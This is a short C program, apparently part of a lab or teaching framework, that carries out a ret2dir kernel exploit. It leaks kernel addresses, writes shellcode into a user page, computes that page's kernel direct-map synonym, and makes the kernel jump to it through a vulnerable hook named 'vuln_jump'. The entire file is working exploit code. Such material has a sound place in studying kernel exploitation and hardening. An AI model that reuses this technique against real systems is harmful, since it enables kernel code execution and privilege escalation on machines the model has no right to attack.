/* ret2dir with code: the kernel jumps to the direct-map synonym of a page of machine code. */
#include <stdio.h>

#include "attack.h"

int main(void)
{
	struct bw_leak leak;

	attack_leak(&leak);

	void *page = attack_pages(BW_PAGE_SIZE);
	size_t nr_bytes = payload_shellcode(page, &leak);
	uint64_t synonym = attack_synonym(&leak, page);

	attack_say("%zu bytes of code at 0x%lx, in frame 0x%lx", nr_bytes, (uintptr_t)page,
		   attack_pfn(page));
	attack_say("the kernel jumps to the same bytes at 0x%lx", synonym);
	attack_settle();
	attack_check("vuln_jump", bw_vuln_jump(synonym));
	return attack_finish();
}
